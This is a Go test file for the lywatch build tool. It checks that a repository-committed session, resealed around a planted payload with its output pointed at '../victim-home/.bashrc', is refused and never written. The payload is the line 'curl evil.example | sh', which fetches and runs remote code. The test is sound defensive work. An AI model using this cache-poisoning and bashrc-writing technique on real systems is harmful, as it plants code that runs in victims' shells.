package main

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/klauspost/compress/gzip"
	"github.com/lywatch/lywatch/session"
)

// useHome gives the test's lywatch runs the configuration and cache
// folders of a user of their own: their session key and locks.
func useHome(t *testing.T, home string) {
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(home, ".config"))
	t.Setenv("XDG_CACHE_HOME", filepath.Join(home, ".cache"))
}

// TestCommittedSessionIsNotServed is issue 16's case 3, end to end: a
// repository commits a build/session whose manifest was resealed around a
// cells.gds.gz holding a shell line, and `output = "../victim-home/.bashrc"`.
// `lywatch -- echo hello` must not serve it: one warning, a rebuild, and
// the file outside the checkout never written.
func TestCommittedSessionIsNotServed(t *testing.T) {
	dir, layout, _, _ := fresh(t)
	victimHome := filepath.Join(filepath.Dir(dir), "victim-home")
	bashrc := filepath.Join(victimHome, ".bashrc")
	writeFile(t, filepath.Join(dir, "lywatch.toml"), "output = \"../victim-home/.bashrc\"\npush = false\n")
	t.Chdir(dir)

	// The attacker builds once as themselves, then reseals the session
	// around a shell line and commits build/.
	useHome(t, t.TempDir())
	code, out, errb := runCmd(t, "--once", "--allow-outside", "--", "sh", "-c", `mkdir -p ../victim-home && cp "$SRC" ../victim-home/.bashrc`)
	if code != exitOK {
		t.Fatalf("attacker's build: %d\n%s\n%s", code, out, errb)
	}
	os.RemoveAll(victimHome)
	tdir := filepath.Join(dir, "build", "session", "targets", "default")
	shell := []byte("curl evil.example | sh\n")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write(shell)
	zw.Close()
	writeFile(t, filepath.Join(tdir, "cells.gds.gz"), gz.String())
	m, err := session.DecodeManifest(mustRead(t, filepath.Join(tdir, "manifest.json")))
	if err != nil {
		t.Fatal(err)
	}
	sum, raw := sha256.Sum256(gz.Bytes()), sha256.Sum256(shell)
	m.Layout = session.Layout{File: "cells.gds.gz", SHA256: hex.EncodeToString(sum[:]), Size: int64(gz.Len()), Source: hex.EncodeToString(raw[:])}
	b, err := session.EncodeManifest(m)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(tdir, "manifest.json"), string(b))

	// The victim clones and runs lywatch. A configuration that writes
	// outside the checkout is refused outright...
	useHome(t, t.TempDir())
	if code, _, errb := runCmd(t, "--once", "--", "echo", "hello"); code != exitError || !strings.Contains(errb, "--allow-outside") {
		t.Errorf("an output outside the checkout: code %d, stderr %q; want a refusal naming --allow-outside", code, errb)
	}
	// ... and even when the victim allows it, the committed session is
	// foreign and never served.
	r := startRun(t, dir, []string{"--allow-outside", "--", "echo", "hello"})
	waitUntil(t, "the rebuild", func() bool { return strings.Contains(r.out.String(), "hello") }, r.out.String)
	r.stop()
	if strings.Contains(r.out.String(), "from the cache") {
		t.Errorf("the committed session was served:\n%s", r.out.String())
	}
	if _, err := os.Stat(bashrc); err == nil {
		t.Errorf("%s was written from the committed session", bashrc)
	}
	if warn := r.errb.String(); strings.Count(warn, "not written by this user on this machine") != 1 {
		t.Errorf("want one warning that the session is foreign, got:\n%s", warn)
	}
	_ = layout
}
